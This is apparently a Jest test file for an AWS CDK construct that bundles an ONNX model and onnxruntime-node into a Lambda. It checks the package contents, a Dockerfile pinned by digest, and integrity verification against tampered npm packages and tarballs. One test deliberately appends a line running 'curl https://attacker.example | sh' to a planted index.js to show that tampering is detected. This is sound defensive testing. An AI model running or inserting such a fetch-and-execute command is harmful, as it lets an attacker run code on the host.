import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { App, Stack } from 'aws-cdk-lib';
import { dirBytes } from './bundle';
import { MODEL_PATH } from './fixture';
import { ModelArtifact, ServerlessModelEndpoint } from '../../src';
import { ONNXRUNTIME_PACKAGES } from '../../src/serverless-model-endpoint/onnxruntime-integrity';
import {
  ONNXRUNTIME_VERSION, stageImageContext, stagePackage, stageRuntimeModules, verifyIntegrity,
} from '../../src/serverless-model-endpoint/runtime-package';

const LAMBDA_UNZIPPED_LIMIT = 250 * 1024 * 1024;

function listFiles(dir: string, rel = ''): string[] {
  return fs.readdirSync(path.join(dir, rel), { withFileTypes: true }).flatMap((e) => {
    const r = rel ? `${rel}/${e.name}` : e.name;
    return e.isDirectory() ? listFiles(dir, r) : [r];
  });
}

test('synth stages the zip locally (no Docker): handler, model, onnxruntime for linux/x64 only', () => {
  const app = new App();
  const stack = new Stack(app, 'Zip', { env: { account: '111111111111', region: 'eu-central-1' } });
  new ServerlessModelEndpoint(stack, 'Predict', { model: ModelArtifact.fromAsset(MODEL_PATH, { version: 'v1' }) });
  const assembly = app.synth();
  const template = assembly.getStackByName('Zip').template;
  const fn = Object.values<any>(template.Resources).find((r) => r.Type === 'AWS::Lambda::Function' && r.Properties.Runtime);
  const assetDir = path.join(assembly.directory, `asset.${fn.Properties.Code.S3Key.replace(/\.zip$/, '')}`);
  const files = listFiles(assetDir);
  expect(files).toEqual(expect.arrayContaining([
    'index.js',
    'model/model.onnx',
    'node_modules/onnxruntime-node/package.json',
    'node_modules/onnxruntime-node/bin/napi-v6/linux/x64/onnxruntime_binding.node',
    'node_modules/onnxruntime-node/bin/napi-v6/linux/x64/libonnxruntime.so.1',
    'node_modules/onnxruntime-common/package.json',
  ]));
  const binaries = files.filter((f) => f.includes('/bin/'));
  expect(binaries.every((f) => f.startsWith('node_modules/onnxruntime-node/bin/napi-v6/linux/x64/'))).toBe(true);
  expect(JSON.parse(fs.readFileSync(path.join(assetDir, 'node_modules/onnxruntime-node/package.json'), 'utf8')).version).toBe(ONNXRUNTIME_VERSION);
  const bytes = dirBytes(assetDir);
  console.log(`zip package, unzipped: ${(bytes / 1024 / 1024).toFixed(1)} MiB of Lambda's 250 MiB (${files.length} files)`);
  expect(bytes).toBeLessThan(LAMBDA_UNZIPPED_LIMIT);
  expect(fs.readFileSync(path.join(assetDir, 'model/model.onnx'))).toEqual(fs.readFileSync(MODEL_PATH));
});

const BASE_IMAGE = `public.ecr.aws/lambda/nodejs:24@sha256:${'a'.repeat(64)}`; // a test value, never built

test('the container build context holds the same package and a Dockerfile on the base image pinned by digest', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'image-context-'));
  stageImageContext(dir, { arch: 'arm64', modelFile: MODEL_PATH }, BASE_IMAGE);
  const files = listFiles(dir);
  expect(files).toEqual(expect.arrayContaining(['Dockerfile', '.dockerignore', 'app/index.js', 'app/model/model.onnx']));
  expect(files.filter((f) => f.includes('/bin/')).every((f) => f.startsWith('app/node_modules/onnxruntime-node/bin/napi-v6/linux/arm64/'))).toBe(true);
  const dockerfile = fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8');
  expect(dockerfile).toContain(`FROM --platform=linux/arm64 ${BASE_IMAGE}\n`);
  expect(dockerfile).toContain('COPY app/ ${LAMBDA_TASK_ROOT}/');
  expect(dockerfile).toContain('CMD ["index.handler"]');
  fs.rmSync(dir, { recursive: true, force: true });
});

test('fails if the container base image is not pinned by digest', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'image-context-'));
  for (const image of ['public.ecr.aws/lambda/nodejs:24', 'public.ecr.aws/lambda/nodejs:24@sha256:abc', 'x@sha256:' + 'A'.repeat(64)]) {
    expect(() => stageImageContext(dir, { arch: 'x64' }, image)).toThrow(`invalid base image: received ${JSON.stringify(image)}; expected an image pinned by digest`);
  }
  expect(fs.readdirSync(dir)).toEqual([]);
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('onnxruntime-node is verified against the npm registry\'s package (security.md, "Synth trusts nothing shared")', () => {
  const nodeDir = path.dirname(require.resolve('onnxruntime-node/package.json'));
  const commonDir = path.join(path.dirname(nodeDir), 'onnxruntime-common');
  const installed: Record<string, string> = { 'onnxruntime-node': nodeDir, 'onnxruntime-common': commonDir };
  const sha256 = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex');
  const fresh = (prefix: string) => fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  const noRegistry = (): never => { throw new Error('no registry in this test'); };

  test('the pinned integrity is the registry\'s dist.integrity, as npm recorded it in package-lock.json', () => {
    const lock = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'package-lock.json'), 'utf8'));
    for (const [name, pinned] of Object.entries(ONNXRUNTIME_PACKAGES)) {
      const entry = lock.packages[`node_modules/${name}`];
      expect([name, entry.version, entry.integrity]).toEqual([name, ONNXRUNTIME_VERSION, pinned.integrity]);
    }
  });

  test('the pinned file hashes are those of the installed packages, and name every file the package needs', () => {
    for (const [name, pinned] of Object.entries(ONNXRUNTIME_PACKAGES)) {
      const needed = listFiles(installed[name])
        .filter((f) => f === 'package.json' || /^dist\/.*\.(js|json)$/.test(f) || /^bin\/napi-v6\/linux\/(x64|arm64)\/(libonnxruntime\.so\.1|onnxruntime_binding\.node)$/.test(f))
        .sort();
      const actual = Object.fromEntries(needed.map((f) => [f, sha256(path.join(installed[name], f))]));
      // On a mismatch this prints the table to pin (after checking the tarballs, see onnxruntime-integrity.ts).
      expect([name, actual]).toEqual([name, pinned.files]);
    }
  });

  test('a package tampered after installation in node_modules is refused, naming the file', () => {
    const project = fresh('planted-project-');
    const planted = path.join(project, 'node_modules', 'onnxruntime-node');
    fs.mkdirSync(path.join(planted, 'dist'), { recursive: true });
    fs.mkdirSync(path.join(planted, 'bin', 'napi-v6'), { recursive: true });
    fs.symlinkSync(path.join(nodeDir, 'bin', 'napi-v6', 'linux'), path.join(planted, 'bin', 'napi-v6', 'linux'));
    for (const f of listFiles(path.join(nodeDir, 'dist'))) {
      fs.mkdirSync(path.dirname(path.join(planted, 'dist', f)), { recursive: true });
      fs.copyFileSync(path.join(nodeDir, 'dist', f), path.join(planted, 'dist', f));
    }
    fs.copyFileSync(path.join(nodeDir, 'package.json'), path.join(planted, 'package.json'));
    fs.appendFileSync(path.join(planted, 'dist', 'index.js'), '\nrequire("child_process").execSync("curl https://attacker.example | sh");\n');
    fs.cpSync(commonDir, path.join(project, 'node_modules', 'onnxruntime-common'), { recursive: true });
    const out = fresh('staged-');
    const cwd = process.cwd();
    process.chdir(project);
    try {
      // The package's own staging entry point, as aws-cdk-lib's local bundling calls it.
      expect(() => stagePackage(out, { arch: 'x64' })).toThrow(
        /refusing onnxruntime-node@1\.30\.0 from the node_modules of .*planted-project-.*: dist\/index\.js has SHA-256 [0-9a-f]{64}, but the registry's package \(integrity sha512-twhs1C2C.*\) has [0-9a-f]{64}\. Its files were changed after npm installed them/,
      );
    } finally {
      process.chdir(cwd);
    }
    expect(fs.existsSync(path.join(out, 'node_modules', 'onnxruntime-node', 'dist', 'index.js'))).toBe(false);
    fs.rmSync(project, { recursive: true, force: true });
    fs.rmSync(out, { recursive: true, force: true });
  });

  test('a planted folder at the old predictable cache path is never used: the packages are fetched into a fresh private folder', () => {
    const old = path.join(os.tmpdir(), `cdk-secure-mlops-onnxruntime-node-${ONNXRUNTIME_VERSION}`);
    const plantedDist = path.join(old, 'node_modules', 'onnxruntime-node', 'dist');
    fs.mkdirSync(plantedDist, { recursive: true });
    fs.writeFileSync(path.join(old, 'node_modules', 'onnxruntime-node', 'package.json'), JSON.stringify({ name: 'onnxruntime-node', version: ONNXRUNTIME_VERSION, main: 'dist/index.js' }));
    fs.writeFileSync(path.join(plantedDist, 'index.js'), 'module.exports = require("./planted");');
    const destinations: string[] = [];
    const nowhere = fresh('no-node-modules-');
    expect(() => stageRuntimeModules(fresh('staged-'), 'x64', {
      searchFrom: [nowhere],
      pack: (_spec, destination) => { destinations.push(destination); return noRegistry(); },
    })).toThrow('no registry in this test');
    expect(destinations).toHaveLength(1);
    expect(destinations[0].startsWith(old)).toBe(false);
    expect(path.basename(path.dirname(destinations[0]))).toMatch(/^cdk-secure-mlops-onnxruntime-.{6}$/);
    expect(fs.statSync(path.dirname(destinations[0])).mode.toString(8).slice(-3)).toBe('700');
    expect(fs.readdirSync(destinations[0])).toEqual([]);
    fs.rmSync(old, { recursive: true, force: true });
  });

  test('a tampered tarball is refused before it is extracted', () => {
    const fake = fresh('fake-package-');
    fs.mkdirSync(path.join(fake, 'package', 'dist'), { recursive: true });
    fs.writeFileSync(path.join(fake, 'package', 'package.json'), JSON.stringify({ name: 'onnxruntime-node', version: ONNXRUNTIME_VERSION }));
    fs.writeFileSync(path.join(fake, 'package', 'dist', 'index.js'), 'module.exports = "planted";');
    let extractedInto: string | undefined;
    expect(() => stageRuntimeModules(fresh('staged-'), 'x64', {
      searchFrom: [fresh('no-node-modules-')],
      pack: (spec, destination) => {
        const tarball = path.join(destination, `${spec.replace('@', '-')}.tgz`);
        execFileSync('tar', ['-czf', tarball, '-C', fake, 'package']);
        extractedInto = path.dirname(destination);
        return tarball;
      },
    })).toThrow(
      /^refusing onnxruntime-node@1\.30\.0: the tarball npm fetched \(.*onnxruntime-node-1\.30\.0\.tgz\) has integrity sha512-\S+, but the npm registry's onnxruntime-node@1\.30\.0 has sha512-twhs1C2C\/BFkz1yc5OY0KIU2GUq6DURO7hD4bx5Q2Qy3nAMJwRXW8xU3NVczE29VA9lolLOYepoD8fjTGOfIqw== \(pinned in cdk-secure-mlops\)/,
    );
    // Nothing was extracted from it.
    expect(fs.readdirSync(extractedInto!).filter((d) => d.startsWith('onnxruntime-node-'))).toEqual([]);
  });

  test('verifyIntegrity accepts the exact bytes only', () => {
    const file = path.join(fresh('tarball-'), 'x.tgz');
    fs.writeFileSync(file, 'bytes');
    const good = `sha512-${createHash('sha512').update('bytes').digest('base64')}`;
    expect(() => verifyIntegrity(file, 'x@1', good)).not.toThrow();
    fs.writeFileSync(file, 'bytez');
    expect(() => verifyIntegrity(file, 'x@1', good)).toThrow(/^refusing x@1: the tarball npm fetched/);
  });

  test('files the source holds beyond the pinned ones (CUDA providers of a normal install, other platforms) are never staged', () => {
    const out = fresh('staged-');
    stageRuntimeModules(out, 'arm64');
    const staged = listFiles(out).sort();
    const expected = [
      ...Object.keys(ONNXRUNTIME_PACKAGES['onnxruntime-node'].files).filter((f) => !f.startsWith('bin/') || f.includes('/linux/arm64/')).map((f) => `onnxruntime-node/${f}`),
      ...Object.keys(ONNXRUNTIME_PACKAGES['onnxruntime-common'].files).map((f) => `onnxruntime-common/${f}`),
    ].sort();
    expect(staged).toEqual(expected);
    fs.rmSync(out, { recursive: true, force: true });
  });
});
